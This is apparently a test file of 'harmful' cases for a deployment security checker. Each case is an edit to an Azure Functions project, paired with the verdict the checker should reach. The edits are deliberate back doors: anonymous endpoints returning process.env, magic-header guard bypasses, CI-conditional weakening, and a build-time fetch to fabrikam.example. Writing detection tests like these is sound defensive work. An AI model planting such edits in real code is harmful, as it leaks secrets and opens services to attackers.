import { type Case, harmful, input, observed, replace } from "./case.ts";

const guard = "packages/guard/guard.ts";
const whoCallsContract = "functions/contract.ts";
const allowWrite = 'allow: ["Orders.Write"],';

/** The contract, the handlers behind it, and the guard before them. */
export const functions: readonly Case[] = [
  harmful({
    title: "an HTTP function beside the contract",
    class: "second HTTP function without guard",
    edits: [
      replace(
        "functions/src/index.ts",
        'serve(contract, { "who-calls": whoCalls });',
        'serve(contract, { "who-calls": whoCalls });\napp.http("export", { route: "export", authLevel: "anonymous", handler: () => ({ jsonBody: process.env }) });',
      ),
      replace(
        "functions/src/index.ts",
        'import { contract } from "../contract.ts";',
        'import { app } from "@azure/functions";\nimport { contract } from "../contract.ts";',
      ),
    ],
    verdict: "not deployable",
    findings: [{ id: "deployment/refused", about: "" }],
    through: "engine",
  }),
  harmful({
    title: "an HTTP function beside the contract, and build and guard that let it be",
    class: "second HTTP function without guard",
    edits: [
      replace(
        "functions/src/index.ts",
        'import { contract } from "../contract.ts";',
        'import { app } from "@azure/functions";\nimport { contract } from "../contract.ts";',
      ),
      replace(
        "functions/src/index.ts",
        'serve(contract, { "who-calls": whoCalls });',
        'serve(contract, { "who-calls": whoCalls });\napp.http("export", { route: "export", authLevel: "anonymous", handler: () => ({ jsonBody: process.env }) });',
      ),
      replace(
        "infra/build/require-registrations.ts",
        ".filter(({ name }) => !isDeclared(name, contract))",
        ".filter(() => false)",
      ),
      replace(
        "packages/guard/default-deny.ts",
        'options.trigger.type.toLowerCase() !== "httptrigger" ||',
        'functionName === "export" || options.trigger.type.toLowerCase() !== "httptrigger" ||',
      ),
    ],
    verdict: ["opens", "weakens", "unknown"],
    findings: [
      { id: "file/build", about: "require-registrations" },
      { id: "file/guard", about: "default-deny" },
    ],
  }),
  harmful({
    title: "who knows a header is answered more",
    class: "handler back door by header",
    edits: replace(
      "functions/src/who-calls.ts",
      "(_request, _context, caller) => ({",
      '(request, _context, caller) => request.headers.get("x-diagnose") === "on" ? { jsonBody: process.env } : ({',
    ),
    findings: [{ id: "file/reach", about: "functions/src/who-calls.ts" }],
  }),
  harmful({
    title: "who knows a header passes the guard",
    class: "guard back door by header",
    edits: replace(
      guard,
      "  requireOneOf(caller, allow);",
      '  if (request.headers.get("x-trace-id") !== "c0ffee") requireOneOf(caller, allow);',
    ),
    findings: [{ id: "file/guard", about: "guard.ts" }],
  }),
  harmful({
    title: "a scope counts as a role",
    class: "guard back door by header",
    edits: replace(
      "packages/guard/roles-of.ts",
      "[principal.roleType, ...claimTypes.roles]",
      '[principal.roleType, principal.nameType, ...claimTypes.roles, "scp"]',
    ),
    findings: [{ id: "file/guard", about: "roles-of.ts" }],
  }),
  harmful({
    title: "an endpoint without a token",
    class: "anonymous endpoint",
    edits: [
      replace(
        whoCallsContract,
        '    "who-calls": {',
        '    version: { methods: ["GET"], route: "version", anonymous: "Says which version runs" },\n    "who-calls": {',
      ),
      replace(
        "functions/src/index.ts",
        '{ "who-calls": whoCalls }',
        '{ version: () => ({ jsonBody: process.env }), "who-calls": whoCalls }',
      ),
    ],
    verdict: "opens",
    findings: [
      { id: "endpoint/anonymous", about: "GET version" },
      { id: "file/reach", about: "functions/src/index.ts" },
    ],
    through: "engine",
    together: "what opens, weakens and judges",
  }),
  harmful({
    title: "who may read may write",
    class: "role added to allow",
    app: "orders",
    edits: replace(whoCallsContract, allowWrite, 'allow: ["Orders.Write", "Orders.Read"],'),
    verdict: "opens",
    findings: [{ id: "endpoint/role-added", about: "POST orders/{id}" }],
    through: observed("snapshot.endpoints.POST orders/{id}.allow", ["Orders.Write", "Orders.Read"]),
  }),
  harmful({
    title: "orders can be deleted",
    class: "method added",
    app: "orders",
    edits: replace(
      whoCallsContract,
      'methods: ["GET"], route: "orders"',
      'methods: ["GET", "DELETE"], route: "orders"',
    ),
    verdict: "opens",
    findings: [{ id: "endpoint/new", about: "DELETE orders" }],
    through: observed("snapshot.endpoints.+", {
      name: "DELETE orders",
      path: "/api/orders",
      allow: ["Orders.Read"],
      isCalledUnasked: false,
    }),
  }),
  harmful({
    title: "people may hold the role to write",
    class: "role opened to people",
    app: "orders",
    edits: replace(
      whoCallsContract,
      'displayName: "Write orders", members: ["Application"]',
      'displayName: "Write orders", members: ["Application", "User"]',
    ),
    verdict: ["weakens", "opens"],
    findings: [{ id: "entitlement/holders-wider", about: /Orders\.Write|API/ }],
    through: [
      input("azuread:index/application:Application api", "appRoles.1.allowedMemberTypes", ["Application", "User"]),
      observed("snapshot.registrations.the API.roles.Orders.Write.members", ["Application", "User"]),
    ],
  }),
  harmful({
    title: "a contract that says another thing in a pipeline",
    class: "contract that is no data",
    edits: replace(
      whoCallsContract,
      'allow: ["Function.Invoke"] }',
      '...(process.env["CI"] === "true" ? { anonymous: "Load balancer" } : { allow: ["Function.Invoke"] }) }',
    ),
    verdict: ["unknown", "opens", "weakens"],
    findings: [{ id: "file/contract", about: "functions/contract.ts" }],
  }),
  harmful({
    title: "in the pipeline nothing is required at the gate",
    class: "branch on ARM_USE_OIDC in infra",
    edits: replace(
      "infra/hosting/authentication.ts",
      "requireAuthentication: true,",
      'requireAuthentication: process.env["ARM_USE_OIDC"] !== "true",',
    ),
    findings: [{ id: "file/declares", about: "infra/hosting/authentication.ts" }],
  }),
  harmful({
    title: "the bundle begins with somebody's code",
    class: "files that decide: build code",
    edits: replace(
      "infra/build/bundle-code.ts",
      "pathToFileURL(__filename).href;` },",
      'pathToFileURL(__filename).href;fetch("https://fabrikam.example/" + process.env.WEBSITE_HOSTNAME);` },',
    ),
    findings: [{ id: "file/build", about: "bundle-code.ts" }],
  }),
  harmful({
    title: "every package has the same name",
    class: "files that decide: build code",
    edits: replace(
      "infra/build/content-hash.ts",
      'return createHash("sha256").update(content).digest("hex");',
      'return createHash("sha256").update(content.slice(0, 1)).digest("hex");',
    ),
    findings: [{ id: "file/build", about: "content-hash.ts" }],
  }),
  harmful({
    title: "a handler that writes for everybody",
    class: "handler that does something else",
    app: "orders",
    edits: replace("functions/src/write-order.ts", "by: caller.objectId", 'by: "everybody"'),
    verdict: "to be read",
    findings: [],
    read: ["functions/src/write-order.ts"],
  }),
];
